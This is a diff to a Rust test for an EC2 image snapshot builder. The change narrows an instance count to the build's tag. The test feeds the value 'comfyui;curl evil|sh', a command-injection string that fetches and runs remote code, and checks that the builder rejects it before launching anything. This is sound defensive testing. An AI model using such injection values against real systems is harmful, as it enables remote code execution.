@@ -289,13 +289,25 @@ async fn the_image_snapshot_builder_pulls_snapshots_the_data_volume_and_terminat
     );
 
     // An image reference a shell would run is refused before anything is launched.
-    let before = ec2.describe_instances().send().await.unwrap();
-    let count = |out: &aws_sdk_ec2::operation::describe_instances::DescribeInstancesOutput| {
-        out.reservations()
+    // (Counted by the build's tag: the other tests of this binary launch instances too.)
+    let builds = || async {
+        ec2.describe_instances()
+            .filters(
+                aws_sdk_ec2::types::Filter::builder()
+                    .name(format!("tag:{BUILD_TAG}"))
+                    .values(&name)
+                    .build(),
+            )
+            .send()
+            .await
+            .unwrap()
+            .reservations()
             .iter()
             .map(|r| r.instances().len())
             .sum::<usize>()
     };
+    let before = builds().await;
+    assert_eq!(before, 1, "the build's one instance");
     let hostile = SnapshotRequest {
         images: vec!["comfyui;curl evil|sh".into()],
         ..request
@@ -304,8 +316,5 @@ async fn the_image_snapshot_builder_pulls_snapshots_the_data_volume_and_terminat
         builder.build(&hostile).await,
         Err(SnapshotError::BadImage(_))
     ));
-    assert_eq!(
-        count(&ec2.describe_instances().send().await.unwrap()),
-        count(&before)
-    );
+    assert_eq!(builds().await, before);
 }
